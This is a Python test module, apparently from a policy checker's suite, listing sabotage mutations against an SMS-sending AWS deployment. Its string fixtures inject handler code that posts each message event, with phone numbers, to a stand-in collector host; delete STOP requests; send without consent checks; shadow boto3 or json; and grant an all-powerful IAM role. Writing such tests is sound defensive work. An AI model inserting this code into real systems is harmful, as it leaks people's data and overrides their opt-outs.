"""Assets with other code: what the functions run, what their layers hold, what the law's tables say."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from tests.infra.policy.attacks.assembly.archives import (
    changed_code,
    changed_in_place,
    changed_layer,
    code_of,
    file_of,
    members,
    packed,
    republish,
)
from tests.infra.policy.attacks.attack import Kind, Place, Promise
from tests.infra.policy.attacks.judging.workspace import NotApplicableError, Workspace

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    from tests.infra.policy.attacks.assembly.archives import Edit, Members

CODE = Kind("an asset with other code", Place.ASSET)
P = Promise


def find(files: Members, end: str) -> str:
    for name in files:
        if name.endswith(end):
            return name
    raise NotApplicableError(f"the archive has no file {end}")


def append(end: str, text: str) -> Edit:
    def edit(files: Members) -> None:
        files[find(files, end)] += f"\n{text}\n".encode()

    return edit


def put(name: str, content: str | bytes) -> Edit:
    def edit(files: Members) -> None:
        files[name] = content.encode() if isinstance(content, str) else content

    return edit


def lose(end: str) -> Edit:
    def edit(files: Members) -> None:
        del files[find(files, end)]

    return edit


def replace(ends: str, old: str, new: str) -> Edit:
    """Replace the pattern `old` in every file whose name matches the pattern `ends`."""

    def edit(files: Members) -> None:
        touched = 0
        for name in list(files):
            if re.search(ends, name):
                text, times = re.subn(old, new, files[name].decode())
                files[name], touched = text.encode(), touched + times
        if not touched:
            raise NotApplicableError(f"no file like {ends} says {old}")

    return edit


SEND = """
import boto3 as _b, os as _o
def handler(event, context):
    for one in event.get("Records", []):
        _b.client("pinpoint-sms-voice-v2").send_text_message(
            DestinationPhoneNumber=one["to"], OriginationIdentity=_o.environ["POOL_ARN"], MessageBody=one["body"])
    return {"batchItemFailures": []}
"""
DROP = """
_checked = handler
def handler(event, context):
    event["Records"] = [one for one in event["Records"] if "STOP" not in one["body"].upper()]
    return _checked(event, context)
"""
POST = """
import urllib.request as _u, json as _j
_heard = handler
def handler(event, context):
    _u.urlopen("https://collector.example.net/", data=_j.dumps(event).encode())
    return _heard(event, context)
"""
QUIET = "\ndef handler(event, context):\n    return {'batchItemFailures': []}\n"

for _name, _function, _promise, _harm, _edit in (
    ("the gate sends without asking", "send_gate", P.GATE, "Every request is sent.", append(
        "functions/send_gate/handler.py", SEND)),
    ("the handler drops STOPs", "keyword_handler", P.CONSENT, "A STOP is deleted unheard.", append(
        "functions/keyword_handler/handler.py", DROP)),
    ("the handler posts each text elsewhere", "keyword_handler", P.NUMBERS, "Numbers and texts leave.", append(
        "functions/keyword_handler/handler.py", POST)),
    ("the handler does nothing", "keyword_handler", P.CONSENT, "A STOP counts as handled.", append(
        "functions/keyword_handler/handler.py", QUIET)),
    ("the archiver does nothing", "archive", P.DATA, "The ledger is not copied.", append(
        "functions/archive/handler.py", QUIET)),
    ("the reconciler does nothing", "reconcile", P.CONSENT, "Missed opt-outs are never found.", append(
        "functions/reconcile/handler.py", QUIET)),
    ("the cascade does nothing", "cascade", P.CONSENT, "Opt-outs of the legal entity count as recorded.", append(
        "functions/cascade/handler.py", QUIET)),
    ("the decision about consent is lost", "keyword_handler", P.CONSENT, "The handler cannot start.", lose(
        "consent/decision.py")),
    ("the caps are lost", "send_gate", P.DATA, "The gate cannot start.", lose("sending/caps.py")),
    ("federal hours are open all day", "send_gate", P.CONSENT, "Texts go out at night.", replace(
        r"rules/windows\.json$", "08:00-21:00", "00:00-24:00")),
    ("a state's hours are gone", "send_gate", P.CONSENT, "Texts reach a state in its closed hours.", replace(
        r"rules/windows\.json$", '"FL"', '"XX"')),
    ("the states' caps are a thousand", "send_gate", P.CONSENT, "People get more texts than their state allows.",
        replace(
        r"rules/caps\.json$", r'"count": \d+', '"count": 1000')),
    ("numbers of the east live in Hawaii", "send_gate", P.CONSENT, "Texts go out six hours too late at night.", replace(
        r"rules/area_codes\.json$", "America/New_York", "Pacific/Honolulu")),
    ("a law that begins in a hundred years", "send_gate", P.CONSENT, "No rule is in force.", replace(
        r"rules/.*\.json$", r'"effective": "\d{4}', '"effective": "2126')),
    ("STOP reaches nobody else", "cascade", P.CONSENT, "A STOP no longer covers the legal entity.", replace(
        r"rules/stop_scope\.json$", '"legal_entity"', '"program"')),
    ("the words for stop are others", "keyword_handler", P.CONSENT, "People who write stop are not understood.",
        replace(
        r"intent/languages/\w+\.py$", r"(?i)\bstop\b", "st0p")),
    ("the model of texts weighs nothing", "keyword_handler", P.CONSENT, "Texts that mean stop are not understood.", put(
        "lambdas/intent/weights.txt", "")),
    ("numbers are not masked", "send_gate", P.NUMBERS, "Phone numbers are logged.", append(
        "consent/phone.py", "\ndef masked(phone):\n    return phone")),
    ("conditions of DynamoDB are the other way round", "send_gate", P.GATE, "A text is sent twice.", replace(
        r"stores/.*\.py$", "attribute_not_exists", "attribute_exists")),
    ("a module of the standard library is replaced", "send_gate", P.GATE, "json.py in the archive runs first.", put(
        "json.py", "loads = dumps = lambda *a, **k: {}")),
    ("boto3 is replaced by the archive's", "keyword_handler", P.CONSENT, "Calls go where the archive says.", put(
        "boto3/__init__.py", "def client(*a, **k): raise SystemExit")),
    ("compiled code that is not checked against its source", "send_gate", P.GATE, "The compiled file runs.", put(
        "lambdas/sending/__pycache__/gate.cpython-314.pyc", b"\x2b\x0e\x0d\x0a\x01\x00\x00\x00" + b"\x00" * 8)),
    ("another function's handler under this one's name", "send_gate", P.GATE, "The campaign runs as the gate.",
     lambda files: files.update({find(files, "functions/send_gate/handler.py"): files[
         find(files, "functions/campaign/handler.py")]})),
    ("two files are swapped", "keyword_handler", P.CONSENT, "Opt-out is opt-in.", replace(
        r"consent/(decision|events|items)\.py$", "opted_out", "opted_in")),
    ("a package of AWS's runtime of an old version", "keyword_handler", P.CONSENT, "Calls fail.", put(
        "botocore/__init__.py", "__version__ = '1.0.0'")),
    ("the page shows everybody", "preferences", P.NUMBERS, "A page shows any number that is asked for.", append(
        "functions/preferences/handler.py",
            "\ndef handler(event, context):\n    return {'statusCode': 200, 'body': str(event)}")),
    ("the form asks nobody's yes", "opt_in_form", P.CONSENT, "A form subscribes without double opt-in.", append(
        "functions/opt_in_form/handler.py", QUIET)),
):  # fmt: skip
    CODE.add(_name, _promise, _harm, changed_code(_function, _edit))


@CODE.workspace("a file twice in the archive", P.GATE, "Whoever reads the first sees good code; the last one runs.")
def _(workspace: Workspace, rng: Random) -> None:
    program = workspace.any_program(rng)
    code = code_of(program, "send_gate")
    files = members(file_of(workspace, program.stack, str(code["S3Key"])))
    name = find(files, "functions/send_gate/handler.py")
    republish(workspace, program, code, packed(files, again={name: files[name] + SEND.encode()}))


@CODE.workspace("files that nobody may read", P.CONSENT, "The runtime cannot open the handler.")
def _(workspace: Workspace, rng: Random) -> None:
    program = workspace.any_program(rng)
    code = code_of(program, "keyword_handler")
    files = members(file_of(workspace, program.stack, str(code["S3Key"])))
    republish(workspace, program, code, packed(files, mode=0o000))


@CODE.workspace("an archive without code", P.CONSENT, "The handler cannot start.")
def _(workspace: Workspace, rng: Random) -> None:
    program = workspace.any_program(rng)
    republish(workspace, program, code_of(program, "keyword_handler"), packed({"README": b""}))


@CODE.workspace("the layer's archive is the code's", P.CONSENT, "The functions' libraries are missing.")
def _(workspace: Workspace, rng: Random) -> None:
    program = workspace.any_program(rng)
    key = code_of(program, "keyword_handler")["S3Key"]
    program.properties(program.one("Lambda::LayerVersion", rng))["Content"]["S3Key"] = key


for _name, _file, _promise, _harm, _edit in (
    ("the library that logs and counts posts elsewhere", "aws_lambda_powertools/__init__.py", P.NUMBERS,
     "Numbers leave.", append("aws_lambda_powertools/__init__.py", "import urllib.request")),
    ("the layer brings an extension", "aws_lambda_powertools/__init__.py", P.NUMBERS,
     "Lambda starts every file under extensions/ beside the function.", put("extensions/agent", "#!/bin/sh\n")),
    ("the layer brings its own boto3", "aws_lambda_powertools/__init__.py", P.CONSENT,
     "The layer's boto3 comes before the runtime's.", put("python/boto3/__init__.py", "def client(*a, **k): ...")),
    ("the layer brings botocore for the newest Python", "aws_lambda_powertools/__init__.py", P.NUMBERS,
     "The layer's botocore comes before the runtime's.",
     put("python/lib/python3.14/site-packages/botocore/__init__.py", "")),
    ("a library is lost", "aws_lambda_powertools/__init__.py", P.CONSENT, "No function can start.",
     lose("aws_lambda_powertools/__init__.py")),
    ("metrics are swallowed", "aws_lambda_powertools/__init__.py", P.ALARM, "No alarm on own metrics rings.",
     append("aws_lambda_powertools/metrics/__init__.py", "Metrics.add_metric = lambda *a, **k: None")),
    ("code in the manifest's package", "program_manifest/__init__.py", P.GATE,
        "The manifest's package runs code first.",
     append("program_manifest/__init__.py", "import os\nos.environ['OPT_OUT_LIST'] = 'Default'")),
):  # fmt: skip
    CODE.add(f"layer: {_name}", _promise, _harm, changed_layer(_file, _edit))

LATE = Kind("changed between synth and deploy", Place.ASSET)
for _name, _promise, _harm, _apply in (
    ("the gate's code under its old name", P.GATE, "The gate sends without asking.", changed_in_place(
        "send_gate", append("functions/send_gate/handler.py", SEND))),
    ("the handler's code under its old name", P.CONSENT, "A STOP is deleted unheard.", changed_in_place(
        "keyword_handler", append("functions/keyword_handler/handler.py", DROP))),
    ("the law's tables under their old name", P.CONSENT, "Texts go out at night.", changed_in_place(
        "send_gate", replace(r"rules/windows\.json$", "21:00", "24:00"))),
    ("the libraries under their old name", P.NUMBERS, "Numbers leave.", changed_layer(
        "aws_lambda_powertools/__init__.py", append("aws_lambda_powertools/__init__.py", "import urllib.request"),
        in_place=True)),
    ("the manifest under its old name", P.CONSENT, "Another entity, other hours.", changed_layer(
        "program_manifest/program.json", replace(r"program\.json$", '"opens": ?\\d+', '"opens":0'), in_place=True)),
):  # fmt: skip
    LATE.add(_name, _promise, _harm, _apply)


def _late(change: Callable[[Workspace, Random], None]) -> Callable[[Workspace, Random], None]:
    def apply(workspace: Workspace, rng: Random) -> None:
        change(workspace, rng)
        workspace.save(rehash=False)

    return apply


def _resource(name: str, promise: Promise, harm: str, change: Callable[[Workspace, Random], None]) -> None:
    LATE.add(f"the template after it was judged: {name}", promise, harm, _late(change))


def _on(change: Callable[..., None]) -> Callable[[Workspace, Random], None]:
    return lambda workspace, rng: change(workspace.any_program(rng, "promotional"))


for _name, _promise, _harm, _change in (
    ("the mapping of STOPs is off", P.CONSENT, "Nobody handles STOPs.", lambda p: p.properties(
        p.mapping("keyword_handler", p.queue("inbound"))).update(Enabled=False)),
    ("the gate's role may all", P.GATE, "The gate may do all.", lambda p: p.statements(p.role("send_gate")).append(
        {"Effect": "Allow", "Action": "*", "Resource": "*"})),
    ("the Default list", P.CONSENT, "STOPs go to the list that all share.", lambda p: p.properties(
        p.only("SMSVOICE::Pool")).update(OptOutListName="Default")),
    ("the ledger goes with the stack", P.DATA, "Deleting the stack deletes evidence.", lambda p: p.resources[
        p.table("LEDGER")].update(DeletionPolicy="Delete")),
    ("no alarm on dead letters", P.ALARM, "STOPs that failed lie there unseen.", lambda p: p.resources.pop(
        p.alarm_on("ApproximateNumberOfMessagesVisible", p.queue("inbound dead letters")))),
    ("no firewall", P.CONSENT, "Scripts fill in the form.", lambda p: p.resources.pop(
        p.only("WAFv2::WebACLAssociation"))),
):  # fmt: skip
    _resource(_name, _promise, _harm, _on(_change))

ATTACKS = [*CODE.attacks, *LATE.attacks]
